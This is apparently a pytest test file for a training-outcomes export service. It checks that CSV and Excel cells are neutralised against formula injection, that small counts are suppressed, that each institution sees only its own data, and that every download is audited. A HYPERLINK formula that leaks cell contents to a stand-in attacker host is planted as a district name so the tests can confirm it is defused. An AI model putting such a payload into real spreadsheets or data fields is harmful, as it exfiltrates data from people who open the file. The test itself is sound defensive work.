"""Outcome exports: CSV and Excel, formula injection neutralised in every cell, suppression
for public and institution exports, and an audit event for each download."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.audit.models import AuditEvent
from app.outcomes.exports import neutralise_cell, report_rows, to_csv, to_xlsx

AS_OF = "2026-06-30"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Pune", "Pune"),
        ("Pimpri-Chinchwad", "Pimpri-Chinchwad"),
        ("", ""),
        (-5, -5),
        (-0.04, -0.04),
        (12000.0, 12000.0),
        (0, 0),
        (True, "true"),
        (False, "false"),
        (None, None),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected
    assert type(neutralise_cell(value)) is type(expected)


def test_xlsx_writer_never_writes_a_formula_even_after_stripping_control_characters():
    data = to_xlsx([("T", [["\x01=1+1", "+2", -3, None, "@x"]])])
    sheet = load_workbook(io.BytesIO(data))["T"]
    values = [cell.value for cell in sheet[1]]
    assert values == ["'=1+1", "'+2", -3, None, "'@x"]
    assert all(cell.data_type != "f" for cell in sheet[1])


def test_report_rows_neutralise_keys_and_keep_numbers():
    report = {
        "as_of": AS_OF,
        "by": "district",
        "groups": [{"key": "+1", "enrolled": 3, "gap": -0.5, "suppressed": ["gap"]}],
        "total": {"enrolled": 3, "gap": None, "suppressed": []},
    }
    rows = report_rows(report)
    assert rows == [
        ["key", "enrolled", "gap", "suppressed"],
        ["'+1", 3, -0.5, "gap"],
        ["total", 3, None, ""],
    ]
    assert to_csv(rows).splitlines()[1] == "'+1,3,-0.5,gap"


@pytest.fixture
def planted(factories):
    """Two districts whose names are formulas, plus the hand-counted cluster."""
    cluster = factories.outcome_cluster()
    course = cluster["courses"][0]
    for district in (HYPERLINK, "+1"):
        for day in (1, 2):
            person = factories.worker(district=district, gender="male")
            factories.enrolment(
                person,
                course,
                enrolled_on=date(2025, 7, day),
                certified=True,
                certified_on=date(2025, 10, 1),
            )
    return cluster


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_admin_csv_export_neutralises_formulas_in_keys(client, factories, login_as, planted):
    browser = login_as(factories.user("admin"))
    response = browser.get(f"/admin/outcomes/export?format=csv&by=district&as_of={AS_OF}")
    assert response.status_code == 200
    assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"]
    assert "attachment" in response.headers["Content-Disposition"]
    rows = csv_rows(response)
    keys = [row[0] for row in rows[1:]]
    assert "'" + HYPERLINK in keys and "'+1" in keys
    assert HYPERLINK not in keys and "+1" not in keys
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    # Admin, not public: exact small counts (2 enrolled in each planted district).
    header = rows[0]
    planted_row = rows[keys.index("'+1") + 1]
    assert planted_row[header.index("enrolled")] == "2"
    assert planted_row[header.index("suppressed")] == ""


def test_admin_xlsx_export_opens_and_holds_no_formula(client, factories, login_as, planted):
    browser = login_as(factories.user("admin"))
    response = browser.get(f"/admin/outcomes/export?format=xlsx&by=district&as_of={AS_OF}")
    assert response.status_code == 200
    assert response.content_type.startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ["About", "Outcomes", "DDU-GKY", "DDU-GKY batch alerts", "WIOA"]
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    outcomes = workbook["Outcomes"]
    header = [cell.value for cell in outcomes[1]]
    keys = [line[0].value for line in outcomes.iter_rows(min_row=2)]
    assert "'" + HYPERLINK in keys and "'+1" in keys
    total = next(line for line in outcomes.iter_rows(min_row=2) if line[0].value == "total")
    values = {name: cell.value for name, cell in zip(header, total, strict=True)}
    # 7 of the cluster + 4 planted enrolled; the women-men gap is negative and stays a number.
    assert values["enrolled"] == 11 and values["placed"] == 4
    assert values["women_men_wage_gap"] == -0.04
    # Batch BB1 (two men) is below the 10 enrolled that a quota alert needs: the sheet has only
    # its header row.
    alerts = workbook["DDU-GKY batch alerts"]
    assert alerts.max_row == 1 and alerts["A1"].value


def test_public_export_is_suppressed(client, factories, login_as, planted):
    browser = login_as(factories.user("admin"))
    rows = csv_rows(
        browser.get(f"/admin/outcomes/export?format=csv&by=district&as_of={AS_OF}&public=1")
    )
    header = rows[0]
    enrolled, hidden = header.index("enrolled"), header.index("suppressed")
    # Each district counts 2-4 people: hidden; the total of 11 is shown.
    assert len(rows) == 6
    for row in rows[1:-1]:
        assert row[enrolled] == "" and "enrolled" in row[hidden].split()
    assert rows[-1][0] == "total" and rows[-1][enrolled] == "11"
    assert "placed" in rows[-1][hidden].split()  # 4 placed
    # The two files are told apart by name (a walk downloaded both under one name).
    names = {
        public: browser.get(
            f"/admin/outcomes/export?format=csv&by=district&as_of={AS_OF}&public={public}"
        ).headers["Content-Disposition"]
        for public in (0, 1)
    }
    assert names[0].endswith(f'{AS_OF}-district-exact-outcomes.csv"')
    assert names[1].endswith(f'{AS_OF}-district-public-outcomes.csv"')


def test_institution_export_is_own_and_always_suppressed(client, factories, login_as, planted):
    ins_a, _ = planted["institutions"]
    browser = login_as(factories.user("institution", organisation=ins_a))
    response = browser.get(
        f"/institution/outcomes/export?format=csv&by=course&as_of={AS_OF}&public=0&institution=INS-B"
    )
    assert response.status_code == 200
    rows = csv_rows(response)
    assert [row[0] for row in rows[1:]] == ["CA1", "total"]  # never INS-B's course CB1
    header = rows[0]
    assert all(row[header.index("enrolled")] == "" for row in rows[1:])
    workbook = load_workbook(
        io.BytesIO(browser.get(f"/institution/outcomes/export?format=xlsx&as_of={AS_OF}").data)
    )
    text = " ".join(
        str(cell.value)
        for sheet in workbook.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.value is not None
    )
    assert "INS-B" not in text and "BB1" not in text and "CB1" not in text
    about = {line[0].value: line[1].value for line in workbook["About"].iter_rows(min_row=2)}
    assert about["institution"] == "INS-A" and about["disclosure control"].startswith("on")


def test_ddugky_and_wioa_csv(client, factories, login_as, planted):
    browser = login_as(factories.user("admin"))
    ddugky = csv_rows(
        browser.get(f"/admin/outcomes/export?format=csv&kind=ddugky&by=&as_of={AS_OF}")
    )
    assert ddugky[0][:4] == ["key", "enrolled", "enrolled_women", "women_share"]
    assert ddugky[1][:3] == ["total", "11", "4"]
    wioa = csv_rows(browser.get(f"/admin/outcomes/export?format=csv&kind=wioa&by=&as_of={AS_OF}"))
    assert wioa[0][1] == "completed" and wioa[1][1] == "6"
    assert browser.get("/admin/outcomes/export?format=csv&kind=pmkvy").status_code == 422


def test_exports_are_audited_with_ids_and_counts(client, factories, login_as, db_session, planted):
    admin = factories.user("admin")
    browser = login_as(admin)
    browser.get(f"/admin/outcomes/export?format=csv&by=district&as_of={AS_OF}&public=1")
    browser.get(f"/admin/outcomes/export?format=xlsx&by=gender&as_of={AS_OF}")
    ins_user = factories.user("institution", organisation=planted["institutions"][0])
    login_as(ins_user).get(f"/institution/outcomes/export?format=csv&as_of={AS_OF}")
    events = db_session.scalars(
        select(AuditEvent).where(AuditEvent.action == "outcomes_exported").order_by(AuditEvent.id)
    ).all()
    assert [(e.actor_id, e.object_id) for e in events] == [
        (admin.id, None),
        (admin.id, None),
        (ins_user.id, "INS-A"),
    ]
    assert events[0].detail == {
        "format": "csv",
        "kind": "outcomes",
        "as_of": AS_OF,
        "by": "district",
        "suppressed": True,
        "groups": 4,
    }
    assert events[1].detail["suppressed"] is False and events[1].detail["kind"] == "all"
    assert events[2].detail["suppressed"] is True
    assert HYPERLINK not in str([e.detail for e in events])
